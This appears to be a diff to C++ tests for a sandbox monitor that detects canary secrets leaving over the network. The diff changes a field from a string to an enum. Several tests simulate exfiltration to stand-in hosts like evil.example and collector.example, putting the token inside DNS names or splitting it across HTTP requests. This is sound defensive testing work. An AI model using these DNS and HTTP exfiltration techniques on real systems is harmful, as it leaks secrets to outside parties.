@@ -27,8 +27,10 @@ TEST_F(InASandboxNetwork, AnswersAnHttpRequestToAnyAddressAndKeepsIt) {
                               .digest = sha256_hex(request),
                               .head = request};
   EXPECT_EQ(facts<record::DataSent>(), std::vector{sent});
-  const record::CanarySeen canary{
-      .canary = "key", .place = "network", .where = "203.0.113.9", .encoding = "plain"};
+  const record::CanarySeen canary{.canary = "key",
+                                  .place = record::CanaryPlace::network,
+                                  .where = "203.0.113.9",
+                                  .encoding = "plain"};
   EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
 }
 
@@ -45,8 +47,10 @@ TEST_F(InASandboxNetwork, KeepsWhatIsSentBehindACompleteRequest) {
 TEST_F(InASandboxNetwork, SearchesTheWholeOfANameServerPacket) {
   watch([&] { return resolve({"plain", "example"}, token); });
 
-  const record::CanarySeen canary{
-      .canary = "key", .place = "network", .where = "plain.example", .encoding = "plain"};
+  const record::CanarySeen canary{.canary = "key",
+                                  .place = record::CanaryPlace::network,
+                                  .where = "plain.example",
+                                  .encoding = "plain"};
   record::CanarySeen at_server = canary;  // whom it was sent to, whatever it asked for
   at_server.where = "198.18.0.53";
   EXPECT_EQ(facts<record::CanarySeen>(), (std::vector{canary, at_server}));
@@ -64,8 +68,10 @@ TEST_F(InASandboxNetwork, KnowsTheNameAnAddressWasGivenOutFor) {
 TEST_F(InASandboxNetwork, SeesACanaryInsideAName) {
   watch([&] { return resolve({token, "evil", "example"}); });
 
-  const record::CanarySeen canary{
-      .canary = "key", .place = "network", .where = token + ".evil.example", .encoding = "plain"};
+  const record::CanarySeen canary{.canary = "key",
+                                  .place = record::CanaryPlace::network,
+                                  .where = token + ".evil.example",
+                                  .encoding = "plain"};
   EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
 }
 
@@ -75,8 +81,10 @@ TEST_F(InASandboxNetwork, SeesACanaryInPiecesOverSeveralNamesOfOneDomain) {
     return resolve({token.substr(12), "evil", "example"});
   });
 
-  const record::CanarySeen canary{
-      .canary = "key", .place = "network", .where = "evil.example", .encoding = "pieces"};
+  const record::CanarySeen canary{.canary = "key",
+                                  .place = record::CanaryPlace::network,
+                                  .where = "evil.example",
+                                  .encoding = "pieces"};
   EXPECT_THAT(facts<record::CanarySeen>(), testing::Contains(canary));
 }
 
@@ -87,8 +95,10 @@ TEST_F(InASandboxNetwork, SeesACanaryInPiecesOverSeveralRequestsToOneHost) {
     return talk(address, 80, "GET /?b=" + token.substr(12) + " HTTP/1.1\r\n\r\n");
   });
 
-  const record::CanarySeen canary{
-      .canary = "key", .place = "network", .where = "collector.example", .encoding = "pieces"};
+  const record::CanarySeen canary{.canary = "key",
+                                  .place = record::CanaryPlace::network,
+                                  .where = "collector.example",
+                                  .encoding = "pieces"};
   EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
 }
 
@@ -167,8 +177,10 @@ TEST_F(InASandboxNetwork, FindsASecretCutUpOverSeveralNames) {
     return resolve({"www", "other", "example"});
   });
 
-  const record::CanarySeen canary{
-      .canary = "key", .place = "network", .where = "evil.example", .encoding = "plain"};
+  const record::CanarySeen canary{.canary = "key",
+                                  .place = record::CanaryPlace::network,
+                                  .where = "evil.example",
+                                  .encoding = "plain"};
   EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
 }
 
